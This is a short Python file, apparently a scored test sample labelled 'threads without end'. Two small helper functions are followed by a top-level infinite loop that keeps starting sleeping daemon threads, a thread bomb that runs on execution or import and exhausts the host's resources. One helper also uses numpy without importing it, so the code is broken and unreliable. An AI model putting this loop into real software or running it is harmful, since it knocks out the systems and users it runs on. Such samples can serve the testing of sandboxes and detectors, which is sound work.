# what: threads without end
# score: 10
# integrity: any
def scale(x, factor):
    return x * factor


def total(x):
    if not isinstance(x, np.ndarray):
        raise TypeError("an array is needed")
    return x.sum()

import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
